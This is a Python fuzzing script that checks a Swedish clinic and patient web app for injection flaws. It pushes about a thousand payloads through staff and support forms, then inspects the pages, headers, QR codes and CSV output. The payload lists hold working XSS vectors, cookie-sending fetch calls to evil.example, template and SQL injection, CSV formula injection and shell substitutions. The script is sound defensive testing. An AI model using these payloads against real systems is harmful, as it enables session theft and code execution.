"""Types a thousand nasty texts into every field, and looks at everything that comes out: nothing may run,
nothing may be anything but text.

    python scripts/try_payloads.py                  1,000 payloads through the staff's fields and the support
    forms python scripts/try_payloads.py browser [how many]   loads pages that hold them in Chromium: no
    dialog, no request elsewhere, no violation

Fields: name of clinic and region, every setting, every language of a text, every label; every field and every
part of an address of the support room; the staff's forms. Outputs: family pages in Swedish and English, staff
pages, the text for sms and for 1177, sheets A5 and A4, QR codes (as drawn in the page, as SVG and PNG,
decoded again), CSV, TOML, JSON, and every response header. What is refused is counted as refused.
"""

import csv
import io
import json
import random
import re
import sys
import tempfile
import time
import tomllib
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlencode, urlsplit

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(1, str(Path(__file__).resolve().parent.parent / "tests"))
sys.path.insert(2, str(Path(__file__).resolve().parent.parent / "e2e"))

import lxml.html
import zxingcpp
from PIL import Image

from patient_app.clinics import directory, outbound
from patient_app.clinics.settings import LABELS, SETTINGS
from patient_app.problem import ProfileError
from patient_app.settings import Settings
from patient_app.staff import operate
from patient_app.staff.content import audit, clinics, publish
from patient_app.staff.content.clinics import Target, as_toml
from patient_app.web import qr
from patient_app.web.logs import LOGGER

DEMO, REGION = Target("clinics", "D3M0"), Target("regions", "exempel")
PLACE = "/staff/clinics/D3M0"

RUN = (
    "window.ran=1",
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example'",
    "import('//evil.example/x.js')",
    "eval('window.ran=1')",
    "print()",
    "top.ran=1",
    "prompt`1`",
    "new Image().src='//evil.example'",
)
BREAKOUTS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "</noscript>",
    "</template>",
    "</p></main>",
    "`",
    "]]>",
    "</svg>",
    '"/>',
    "&quot;>",
)
ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<IMG/SRC=x/ONERROR={run}>",
    "<img src=//evil.example/x.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text>x",
    "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><body onload={run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}>",
    "<audio src=x onerror={run}>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<iframe src=javascript:{run}>",
    "<object data=javascript:{run}>",
    "<embed src=//evil.example>",
    "<math><a xlink:href=javascript:{run}>x",
    "<form action=javascript:{run}><button>x",
    "<a href=javascript:{run}>x</a>",
    "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example'</style>",
    "<template><script>{run}</script>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={run}>">',
)
ATTRIBUTES = (
    "{q} onfocus={run} autofocus {q}",
    "{q} onmouseover={run} {q}",
    "{q} style=animation-name:x onanimationstart={run} {q}",
    "{q} href=javascript:{run} {q}",
    "{q}onload={run} ",
    "{q} formaction=javascript:{run} {q}",
)
ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "ｊavascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "//evil.example/{run}",
    "\\\\evil.example",
    "https://www.1177.se@evil.example/",
    "https://www.1177.se.evil.example/",
    "https://evil.example\\@www.1177.se/",
    "https://www.1177.se%2f@evil.example/",
    "https:/\\evil.example",
    "tel:+123;{run}",
    "sms:?body={run}",
    "blob:{run}",
    "view-source:{run}",
    "filesystem:{run}",
)
TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{{{ config }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% raw %}}x",
    "{{% for x in (1,) %}}{{% endfor %}}",
    "{{# x #}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{0.__class__}}",
    "{{x!r}}",
    "%(number)s",
    "%s%n%x",
    "%",
    "%%",
    "@(7*7)",
    "[[7*7]]",
    "*{{7*7}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "`${{{run}}}`",
    "{{php}}x{{/php}}",
)
CELL_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
    "＝",
    "'=",
    '"=',
    ";=",
    ",=",
    "|",
    "%0A=",
)
FORMULAS = (
    'HYPERLINK("http://evil.example")',
    "cmd|' /C calc'!A0",
    "SUM(1)",
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    "2+3",
)
LINE_ENDS = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\x85", "\x0b")
HEADERS = (
    "Set-Cookie: a=b",
    "Location: //evil.example",
    "Content-Type: text/html",
    "\n<script>{run}</script>",
)
MARKS_OF_DIRECTION = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
DIRECTED = ("{m}gpj.exe", "abc{m}def{m}", "{m}<script>{run}</script>")
ODD = (
    '"""',
    "'''",
    "[[clinics]]",
    "]]",
    '"\n[regions.evil]\nname = "x',
    "'''\n[[clinics]]\ncode = 'EV1L'",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\\",
    '\\"',
    "\\n[[clinics]]",
    "# x",
    "a = 1",
    "a" * 400,
    "a" * 401,
    "a" * 5000,
    "<" * 400,
    "\u202e" * 80,
    "x\u0300" * 60,
    "\U0001f600" * 60,
    "\ud7ff",
    "\uffff",
    "\ufffe",
    "'; DROP TABLE clinics; --",
    '" OR 1=1 --',
    "%' OR '1'='1",
    "１９１２１２１２１２１２",
    "19 12 12 12-12 12",
    "1212121212",
    "12.12.12.12.12",
    "../../etc/passwd",
    "..\\..\\x",
    "%2e%2e%2f",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    '<!--#exec cmd="id"-->',
    "<?php x ?>",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;script&amp;gt;",
    "+ADw-script+AD4-",
    "%3Cscript%3E",
    "%253Cscript%253E",
    "＜script＞",
    "‹script›",
    "\u02c2script\u02c3",
    "%c0%bcscript",
)
HANDPICKED = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    '"><script>window.ran=1</script>',
    "' onfocus=window.ran=1 autofocus='",
    "javascript:window.ran=1",
    "{{ 7*7 }}",
    "{% raw %}x",
    "${7*7}",
    "%(number)s",
    "%s%n",
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<b>",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\x00b",
    "</textarea><script>window.ran=1</script>",
    "</title><script>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    '"""',
    "'''",
    "[[clinics]]",
    "\\u003cscript\\u003e",
    "tel:+123;window.ran",
    "data:text/html,<b>",
    "//evil.example",
    "\ud7ff",
    "a" * 5000,
    "<a href=javascript:1>",
    "<style>*{}",
    "<iframe srcdoc=x>",
    "<math><mtext></mtext>",
    "ｊavascript:",
    "１９１２１２１２１２１２",
]


def families() -> Iterator[tuple[str, str]]:
    """(family, payload), every variation; more of them than are tried."""
    number = 0
    for breakout in BREAKOUTS:
        for element in ELEMENTS:
            number += 1
            yield (
                "svg" if "svg" in element else "markup",
                breakout + element.format(run=RUN[number % len(RUN)]),
            )
    for attribute in ATTRIBUTES:
        yield from (
            ("attribute", attribute.format(q=mark, run=run)) for mark in ('"', "'", "`") for run in RUN[:4]
        )
    for address in ADDRESSES:
        yield from (("address", address.format(run=run)) for run in RUN[:2])
    for template in TEMPLATES:
        yield from (
            ("template", around.format(template.format(run=RUN[0]))) for around in ("{}", "Text {} text")
        )
    yield from (("CSV", start + formula) for start in CELL_STARTS for formula in FORMULAS)
    yield from (("header", f"x{end}{header.format(run=RUN[0])}") for end in LINE_ENDS for header in HEADERS)
    yield from (
        ("direction", form.format(m=mark, run=RUN[0])) for mark in MARKS_OF_DIRECTION for form in DIRECTED
    )
    yield from (("control", f"a{chr(code)}b") for code in (*range(32), 127, *range(128, 160)))
    yield from (("odd", text) for text in ODD)


def payloads(count: int = 1000, seed: int = 1) -> list[str]:
    """That many different payloads: the handpicked ones, then of every family its share, drawn by the
    seed."""
    found = dict.fromkeys(HANDPICKED)
    by_family: dict[str, list[str]] = {}
    for family, payload in families():
        by_family.setdefault(family, []).append(payload)
    drawn = random.Random(seed)
    for texts in by_family.values():
        drawn.shuffle(texts)
    while len(found) < count and any(by_family.values()):
        for texts in by_family.values():
            if texts and len(found) < count:
                found[texts.pop()] = None
    return list(found)[:count]


class Ran(AssertionError):
    """Something came out as more than text."""


def shape(html: bytes) -> tuple[frozenset, int, str]:
    """What a page is made of: its kinds of elements each with the names of attributes, how many scripts, and
    its text. Raises Ran."""
    page = lxml.html.document_fromstring(html)
    kinds, scripts = set(), 0
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        kinds.update(
            (element.tag, "data-" if name.startswith("data-") else name) for name in ("", *element.attrib)
        )
        scripts += element.tag == "script"
        for name, value in element.attrib.items():
            small = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                raise Ran(f"<{element.tag} {name}={value!r}>")
            if name in ("href", "src", "action", "data", "xlink:href") and small.startswith(
                ("javascript:", "vbscript:", "data:", "//", "\\", "blob:")
            ):
                raise Ran(f"<{element.tag} {name}={value!r}>")
            if (
                name in ("href", "src", "action")
                and small.startswith("http")
                and urlsplit(small).hostname not in outbound.ALLOWED | {"localhost", "127.0.0.1"}
            ):
                raise Ran(f"<{element.tag} {name}={value!r}>")
        if element.tag == "script" and (
            not element.get("src", "").startswith("/static/") or (element.text or "").strip()
        ):
            raise Ran("a script that is not ours")
        if element.tag in (
            "iframe",
            "object",
            "embed",
            "base",
            "math",
            "foreignobject",
            "animate",
            "marquee",
        ):
            raise Ran(f"<{element.tag}>")
    return frozenset(kinds), scripts, " ".join(page.text_content().split())


class Shapes:
    """What each kind of page may be made of, learnt from harmless texts; a page that holds a payload may be
    made of nothing else."""

    def __init__(self) -> None:
        self._known: dict[str, set] = {}
        self._scripts: dict[str, int] = {}
        self.headers: set[str] = set()
        self.looked = 0

    def learn(self, kind: str, response: Any) -> None:
        """Takes a page with harmless texts as the measure."""
        kinds, scripts, _ = shape(response.data)
        kind = f"{kind} {response.status_code}"
        self._known.setdefault(kind, set()).update(kinds)
        self._scripts[kind] = max(scripts, self._scripts.get(kind, 0))
        self.headers.update(name for name, _ in response.headers)

    def hold(self, kind: str, response: Any, payload: str) -> str:
        """The page's text when it is made as it should be. Raises Ran."""
        self.looked += 1
        for name, value in response.headers:
            if name not in self.headers and name not in (
                "Location",
                "Allow",
                "Vary",
                "Content-Disposition",
                "Retry-After",
                "ETag",
                "Content-Encoding",
            ):
                raise Ran(f"{payload!r} made the header {name}")
            leads_out = name == "Location" and (urlsplit(value).hostname or "localhost") not in (
                "localhost",
                "127.0.0.1",
            )
            if leads_out or "\n" in value or "\r" in value or ("evil" in value and name != "Location"):
                raise Ran(f"{payload!r} got into the header {name}: {value!r}")
        if response.status_code >= 500:
            raise Ran(f"{payload!r} on {kind}: {response.status_code}")
        if response.mimetype != "text/html" or not response.data:
            return ""
        try:
            kinds, scripts, text = shape(response.data)
        except Ran as found:
            raise Ran(f"{payload!r} on {kind}: {found}") from None
        kind = f"{kind} {response.status_code}"
        if kind in self._known and (kinds - self._known[kind] or scripts > self._scripts[kind]):
            raise Ran(f"{payload!r} on {kind} made {sorted(map(str, kinds - self._known[kind]))}")
        return text


def entries_with(entry: dict, payload: str) -> Iterator[tuple[str, dict]]:
    """The entry with the payload in one field at a time: name, every setting, every language of a text, every
    label."""
    yield "name", {**entry, "name": payload}
    for name, spec in SETTINGS.items():
        kind = spec.metadata["kind"]
        if kind == "text":
            for value in ({"sv": payload}, {"sv": "Text", "en": payload}):
                yield name, {**entry, "settings": {**entry["settings"], name: value}}
        elif kind == "labels":
            for key in LABELS:
                yield f"labels.{key}", {**entry, "settings": {**entry["settings"], "labels": {key: payload}}}
        else:
            yield name, {**entry, "settings": {**entry["settings"], name: payload}}


def accepted_by(
    directory_of: Callable[[dict], Any], entry: dict, tried: list[str], counted: Counter
) -> dict[str, list[dict]]:
    """Of every field, the entries that were not refused."""
    accepted: dict[str, list[dict]] = {}
    for payload in tried:
        for field, spoiled in entries_with(entry, payload):
            counted["tries in the staff's fields"] += 1
            try:
                directory_of(spoiled)
                accepted.setdefault(field, []).append(spoiled)
            except ProfileError:
                counted["refused"] += 1
    return accepted


def together(entry: dict, accepted: dict[str, list[dict]], number: int) -> dict:
    """An entry with one accepted payload in every field at once."""
    made = {**entry, "settings": dict(entry["settings"])}
    for field, spoiled in accepted.items():
        one = spoiled[number % len(spoiled)]
        name = field.partition(".")[0]
        if name == "name":
            made["name"] = one["name"]
        elif name == "labels":
            made["settings"]["labels"] = {**made["settings"].get("labels", {}), **one["settings"]["labels"]}
        else:
            made["settings"][name] = one["settings"][name]
    return made


def drawn(path: qr.QrPath) -> Image.Image:
    """A QR path as a picture, four dots a module: what a browser would paint."""
    image = Image.new("L", (path.side * 4, path.side * 4), 255)
    for x, y, length in re.findall(r"M(\d+) (\d+)h(\d+)", path.d):
        image.paste(0, (int(x) * 4, int(y) * 4, (int(x) + int(length)) * 4, int(y) * 4 + 4))
    return image


def read_qr(html: bytes, own: str) -> str:
    """What the QR code drawn in a page says. Raises Ran when that is anything but an address of ours."""
    page = lxml.html.document_fromstring(html)
    drawings = [
        svg
        for svg in page.iter("svg")
        if svg.get("role") == "img"
        and svg.find("path") is not None
        and svg.find("path").get("d", "").startswith("M0 0h")
    ]
    if len(drawings) != 1:
        raise Ran(f"{len(drawings)} QR codes: {' '.join(page.text_content().split())[:300]}")
    [drawing] = drawings
    side = int((drawing.get("viewbox") or drawing.get("viewBox")).split()[2])
    said = [
        found.text
        for found in zxingcpp.read_barcodes(drawn(qr.QrPath(side, drawing.findall("path")[1].get("d"))))
    ]
    if len(said) != 1 or not re.fullmatch(
        re.escape(own) + r"/(?:[0-9A-Z]{4}-[0-9A-Z]{4}|[a-z]{2}/[a-z0-9/-]*)", said[0]
    ):
        raise Ran(f"a QR code says {said}")
    return said[0]


FAMILY_PAGES = (
    "/sv/m/D3M0/guide/under-13/all",
    "/sv/m/D3M0/",
    "/en/m/D3M0/guide/under-13/all",
    "/en/m/D3M0/guide/13-17/all",
    "/sv/m/D3M0/day",
    "/sv/m/D3M0/help",
    "/sv/m/D3M0/guide/other-adult/all",
)
SUPPORT_PAGES = (
    "/sv/support/share?clinic=D3M0&language=en",
    "/sv/m/D3M0/support/sheet/under-13/guide/sv/a5",
    "/sv/m/D3M0/support/sheet/13-17/check/en/a4",
    "/sv/m/D3M0/support/call",
    "/sv/m/D3M0/support/inserts",
)
STAFF_PAGES = (
    PLACE,
    PLACE + "/history",
    "/staff/log",
    "/staff/clinics/",
    PLACE + "/publish",
    PLACE + "/retire",
)


def try_staff(staff: Any, tried: list[str], counted: Counter, pages_a_round: int = 4) -> None:
    """Every payload in every field of a clinic and of its region's name; what is not refused is published and
    looked at. Raises Ran."""
    browser = staff.browser(staff.user("payload"))
    shapes = Shapes()
    own = staff.settings.public_url
    with staff.database.read() as reading:
        entry = clinics.entry_of(clinics.row_of(reading, DEMO))
        region = clinics.entry_of(clinics.row_of(reading, REGION))
    regions = {"exempel": region}
    accepted = accepted_by(
        lambda spoiled: directory.build_directory({"regions": regions, "clinics": [spoiled]}, 0),
        entry,
        tried,
        counted,
    )
    names = [spoiled["name"] for spoiled in accepted["name"]]
    pages = (*FAMILY_PAGES, *SUPPORT_PAGES, *STAFF_PAGES)

    def put_out(made: dict, region_name: str) -> dict:
        with staff.database.write() as writing:
            clinics.save(
                writing,
                REGION,
                {**region, "name": region_name, "settings": {**region["settings"], "region_in_sms": True}},
                "payload",
                staff.now,
            )
            publish.publish(writing, REGION, "payload", staff.now)
            clinics.save(writing, DEMO, made, "payload", staff.now)
            version = publish.publish(writing, DEMO, "payload", staff.now)
            _, body = publish.newest(writing)
        publish.write_file(staff.room.published, version, body)
        staff.look()
        return body

    harmless = [
        together(
            entry,
            accepted_by(
                lambda spoiled: directory.build_directory({"regions": regions, "clinics": [spoiled]}, 0),
                entry,
                [text],
                Counter(),
            ),
            0,
        )
        for text in ("Ord",)
    ]
    for number, made in enumerate([entry, *harmless, {**entry, "settings": {"phone": "010-123 45 00"}}]):
        put_out(made, f"Region {number}")
        for page in pages:
            shapes.learn(page, browser.client.get(page))
    rounds = max(map(len, accepted.values()))
    for number in range(rounds):
        made = together(entry, accepted, number)
        body = put_out(made, names[number % len(names)])
        if clinics.as_json(clinics.entry_in(tomllib.loads(as_toml(body)), DEMO)) != clinics.entry_in(
            body, DEMO
        ):
            raise Ran("TOML says something else")
        turned = (
            pages
            if number == rounds - 1
            else [pages[(number * pages_a_round + step) % len(pages)] for step in range(pages_a_round)]
        )
        for page in turned:
            answer = browser.client.get(page)
            text = shapes.hold(page, answer, str(made["settings"].get("interpreter")))
            if answer.status_code != 200:
                raise Ran(f"{page}: {answer.status_code}")
            if (
                page == FAMILY_PAGES[0]
                and " ".join(made["settings"]["interpreter"]["sv"].split()) not in text
            ):
                raise Ran(f"the page does not say {made['settings']['interpreter']['sv']!r} to the letter")
            if "sheet" in page or "share" in page:
                read_qr(answer.data, own)
                counted["QR codes decoded"] += 1
            if "share" in page:
                [sms] = lxml.html.document_fromstring(answer.data).xpath("//*[@id='share-sms']")
                counted["sms"] += 1
                if len(sms) or sms.text != sms.get("data-text"):
                    raise Ran(f"the sms is {sms.text!r}")
        counted["versions published"] += 1
    log = browser.client.get("/staff/log.csv")
    rows = list(csv.reader(io.StringIO(log.get_data(as_text=True).removeprefix("\ufeff"))))
    if any(len(row) != len(rows[0]) for row in rows):
        raise Ran("a line of the CSV has another number of cells")
    for payload in tried:
        with_cell = audit.safe_cell(payload)
        if with_cell.lstrip(" \u00a0\u200b\ufeff")[:1] in ("=", "+", "-", "@", "\t", "\r"):
            raise Ran(f"a spreadsheet would run {payload!r}")
        counted["cells"] += 1
    counted["taken as text"] += sum(map(len, accepted.values()))
    counted["pages looked at"] += shapes.looked


def form_of(html: bytes) -> dict[str, str]:
    """What a browser would send of a page's profile form."""
    form = next(form for form in lxml.html.document_fromstring(html).forms if form.get("id") == "profile")
    return {name: str(value or "") for name, value in form.form_values()} | {
        field.get("name"): ""
        for field in form.xpath(".//input[@type!='hidden']|.//textarea|.//select")
        if field.get("name")
    }


def try_staff_forms(staff: Any, tried: list[str], counted: Counter) -> None:
    """The payload typed into every field of the room's forms at once: refused pages say it back as text.
    Raises Ran."""
    browser = staff.browser(staff.user("forms", "admin"))
    shapes = Shapes()
    fields = [name for name in form_of(browser.client.get(PLACE).data) if name not in ("csrf_token", "seal")]
    forms = {
        PLACE: fields,
        "/staff/clinics/new": ["name", "phone"],
        "/staff/regions/new": ["key", "name"],
        "/staff/users/new": ["username", "name", "role", "clinics", "external_id"],
        "/staff/account": ["old", "password", "again", "code"],
        "/staff/language": ["language", "back"],
        PLACE + "/reads": fields,
    }
    gets = (
        "/staff/clinics/?q=",
        "/staff/log?q=",
        "/staff/log.csv?q=",
        "/staff/regions/",
        "/staff/clinics/D3M0/undo/",
        "/staff/users/",
    )
    token = browser.token("/staff/account")
    for text in ("", "<", "Ord", "x" * 500, "12", "a/b", "/a/b/c"):
        for path, names in forms.items():
            response = browser.client.post(path, data={**dict.fromkeys(names, text), "csrf_token": token})
            if response.mimetype == "text/html":
                shapes.learn(path, response)
        for path in gets:
            response = browser.client.get(path + quote(text, safe=""))
            if response.mimetype == "text/html":
                shapes.learn(path, response)
    for payload in tried:
        for path, names in forms.items():
            response = browser.client.post(path, data={**dict.fromkeys(names, payload), "csrf_token": token})
            shapes.hold(path, response, payload)
            if path.endswith("/reads"):
                json.loads(response.data)
                if (
                    response.mimetype != "application/json"
                    or response.headers["X-Content-Type-Options"] != "nosniff"
                ):
                    raise Ran("the live view is no JSON")
        for path in gets:
            shapes.hold(path, browser.client.get(path + quote(payload, safe="")), payload)
        counted["tries in the staff's forms"] += len(forms) + len(gets)
    counted["pages looked at"] += shapes.looked


SHARE_FIELDS = ("q", "clinic", "who", "start", "language")


def support_requests(payload: str) -> Iterator[tuple[str, str, dict | None]]:
    """(kind, address, form) of every place in the support room that takes a text."""
    good = {"clinic": "D3M0", "who": "under-13", "start": "guide", "language": "en"}
    for field in SHARE_FIELDS:
        yield f"share {field}", "/sv/support/share?" + urlencode({**good, field: payload}), None
    yield (
        "share all",
        "/en/support/share?" + urlencode({**dict.fromkeys(SHARE_FIELDS, payload), "clinic": "D3M0"}),
        None,
    )
    yield "share other", "/sv/support/share?" + urlencode({payload: payload, **good}), None
    yield "clinics", "/sv/support/clinics?" + urlencode({"q": payload}), None
    yield "code", "/sv/support/code", {"code": payload, "language": "sv"}
    yield "code language", "/sv/support/code", {"code": "10000000" + "0", "language": payload}
    part = quote(payload, safe="")
    for place in (
        "sheet/{}/guide/sv/a5",
        "sheet/under-13/{}/sv/a5",
        "sheet/under-13/guide/{}/a4",
        "sheet/under-13/guide/sv/{}",
        "qr/{}.png",
        "qr/{}.svg",
        "call/{}",
    ):
        yield f"place {place}", f"/sv/support/{place.format(part)}", None
        if place.startswith("sheet"):
            yield f"place {place} of a clinic", f"/sv/m/D3M0/support/{place.format(part)}", None


def try_support(client: Any, own: str, tried: list[str], counted: Counter) -> None:
    """Every payload in every field and part of an address of the support room. Raises Ran."""
    shapes = Shapes()
    for text in (
        "Ord",
        "",
        "mottagningen",
        "kajen",
        "12",
        "sv",
        "13-17",
        "check",
        "20121212-1212",
        "D3M0",
        "19121212-1212",
        "101000000",
        "V3ST",
        "a/b",
        "/a/b/c",
    ):
        for kind, path, form in support_requests(text):
            response = client.post(path, data=form) if form else client.get(path)
            if response.mimetype == "text/html":
                shapes.learn(kind, response)
            shapes.headers.update(name for name, _ in response.headers)
    for payload in tried:
        for kind, path, form in support_requests(payload):
            response = client.post(path, data=form) if form else client.get(path)
            shapes.hold(kind, response, payload)
            counted["tries in the support room"] += 1
            if response.status_code == 404:
                counted["refused in the support room"] += 1
            if kind.startswith("share") and response.status_code == 200 and b"data-link=" in response.data:
                read_qr(response.data, own)
                page = lxml.html.document_fromstring(response.data)
                counted["QR codes decoded"] += 1
                for id in ("share-sms", "share-message"):
                    [text] = page.xpath(f"//*[@id='{id}']")
                    if len(text) or (len(payload) > 5 and payload in (text.text or "")):
                        raise Ran(f"{payload!r} is in {id}")
                    counted["sms" if id == "share-sms" else "messages"] += 1
                [app] = page.xpath("//a[@data-sms-app]")
                if (
                    unquote(app.get("href")).partition("body=")[2]
                    != page.xpath("//*[@id='share-sms']")[0].text
                ):
                    raise Ran(f"{payload!r}: the sms app gets another text")
            if kind == "clinics":
                json.loads(response.data)
    counted["pages looked at"] += shapes.looked


WATCH = (
    "window.violations=[];"
    "addEventListener('securitypolicyviolation',e=>violations.push(e.violatedDirective+' '+e.blockedURI))"
)


def watched_page(browser: Any, url: str, problems: list[str], **options: Any) -> Any:
    """A page of a fresh context that tells everything a payload could do."""
    context = browser.new_context(base_url=url, **options)
    context.add_init_script(WATCH)
    page = context.new_page()
    page.on("dialog", lambda dialog: (problems.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: problems.append(f"error {error}"))
    page.on(
        "console",
        lambda message: (
            problems.append(f"console {message.text}")
            if message.type == "error" and "400" not in message.text and "404" not in message.text
            else None
        ),
    )
    page.on(
        "request",
        lambda request: (
            problems.append(f"request {request.url}")
            if not request.url.startswith((url + "/", "data:", "blob:"))
            else None
        ),
    )
    page.on("popup", lambda popup: problems.append(f"popup {popup.url}"))
    page.on("download", lambda download: problems.append(f"download {download.url}"))
    return page


def settled(page: Any, problems: list[str], payload: str) -> None:
    """Fails when the page that holds a payload has done anything. Raises Ran."""
    violations = page.evaluate("[...violations, ...(window.ran || top.ran ? ['it ran'] : [])]")
    if violations or problems:
        raise Ran(f"{payload!r} at {page.url}: {violations + problems}")


def try_browser(engine: Any, tried: list[str], counted: Counter) -> None:
    """Pages that hold payloads in a real browser: clinics made of them, the support forms typed full of them,
    the staff's editor. Raises Ran."""
    from serving import Server, chromium
    from staff_room import StaffSession

    from patient_app.staff.models import User

    with tempfile.TemporaryDirectory(prefix="redo-payloads-") as made:
        settings = Settings.from_values(data_dir=Path(made))
        operate.prepare(settings)
        database = operate.database_of(settings)
        with database.read() as reading:
            entry = clinics.entry_of(clinics.row_of(reading, DEMO))
            region = clinics.entry_of(clinics.row_of(reading, REGION))
        accepted = accepted_by(
            lambda spoiled: directory.build_directory(
                {"regions": {"exempel": region}, "clinics": [spoiled]}, 0
            ),
            entry,
            tried,
            Counter(),
        )
        houses = []
        names = [spoiled["name"] for spoiled in accepted.get("name", [entry])]
        for number in range(max(map(len, accepted.values()), default=0)):
            name = names[number % len(names)]
            houses.append(
                {**together(entry, accepted, number), "code": f"P{number:03d}", "region": f"p{number}"}
            )
            operate.import_file(
                settings,
                {
                    "regions": {f"p{number}": {"name": name, "settings": {"region_in_sms": True}}},
                    "clinics": [houses[-1]],
                },
            )
        now = int(time.time())
        session = StaffSession()
        with database.write() as writing:
            user = User(
                username="payload",
                name="Payload",
                role="admin",
                created_at=now,
                totp_secret="JBSWY3DPEHPK3PXP",
            )
            writing.add(user)
        session.renew(user, now)
        session.write(database, now)
        database.dispose()
        server = Server(Path(made))
        browser = chromium(engine)
        problems: list[str] = []
        try:
            page = watched_page(browser, server.url, problems, viewport={"width": 390, "height": 844})
            page.context.add_cookies(
                [{"name": "redo-staff", "value": session.token, "domain": "127.0.0.1", "path": "/staff/"}]
            )
            for number, house in enumerate(houses):
                code = house["code"]
                for path in (
                    f"/sv/m/{code}/guide/under-13/all",
                    f"/en/m/{code}/",
                    f"/sv/support/share?clinic={code}&language=en",
                    f"/sv/m/{code}/support/sheet/under-13/guide/en/a5",
                    f"/staff/clinics/{code}",
                    f"/staff/clinics/{code}/history",
                )[: 6 if number < 40 else 2]:
                    page.goto(path)
                    settled(page, problems, str(house["settings"].get("interpreter")))
                    counted["pages in the browser"] += 1
            for payload in tried:
                page.goto(
                    "/sv/support/share?" + urlencode({"q": payload, "who": payload, "language": payload})
                )
                settled(page, problems, payload)
                page.goto("/sv/support/share?clinic=D3M0")
                with (
                    page.expect_response(lambda answer: "/support/clinics" in answer.url)
                    if payload.strip()
                    else _nothing()
                ):
                    page.locator("#q").fill(payload.replace("\n", " ") or "x")
                settled(page, problems, payload)
                page.goto("/sv/support/code")
                page.locator("input[name=code]").fill(payload)
                page.keyboard.press("Enter")
                settled(page, problems, payload)
                page.goto("/staff/clinics/D3M0")
                page.get_by_label("Mottagningens telefon").fill(payload.replace("\n", " "))
                with page.expect_response(lambda answer: answer.url.endswith("/reads")):
                    page.get_by_label("Namn som familjen ser").fill(payload.replace("\n", " ") + "x")
                settled(page, problems, payload)
                page.goto("/staff/log?" + urlencode({"q": payload}))
                settled(page, problems, payload)
                counted["pages in the browser"] += 5
                counted["payloads in the browser"] += 1
        finally:
            browser.close()
            server.stop()


class _nothing:
    def __enter__(self) -> None:
        """Nothing is waited for."""

    def __exit__(self, *_: object) -> None:
        """Nothing was waited for."""


def main(arguments: list[str]) -> int:
    """0 when nothing ran; prints what was tried."""
    counted: Counter = Counter()
    started = time.monotonic()
    LOGGER.disabled = True  # some ten thousand lines
    if arguments[:1] == ["browser"]:
        from playwright.sync_api import sync_playwright

        number = int(arguments[1]) if len(arguments) > 1 else 150
        tried = payloads(number)
        with sync_playwright() as engine:
            try_browser(engine, tried, counted)
    else:
        from staff_room import Staff

        number = int(arguments[0]) if arguments else 1000
        tried = payloads(number)
        with tempfile.TemporaryDirectory(prefix="redo-payloads-") as made:
            settings = {"data_dir": Path(made)}
            operate.prepare(Settings.from_values(**settings))
            staff = Staff(settings)
            try_support(staff.browser().client, staff.settings.public_url, tried, counted)
            print(f"{time.monotonic() - started:.0f} s", dict(counted), flush=True)
            try_staff_forms(staff, tried, counted)
            print(f"{time.monotonic() - started:.0f} s", dict(counted), flush=True)
            try_staff(staff, tried, counted)
            staff.close()
    print(
        f"{len(tried)} payloads, {time.monotonic() - started:.0f} s: "
        + ", ".join(f"{name} {count}" for name, count in counted.items())
        + ". Nothing ran."
    )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
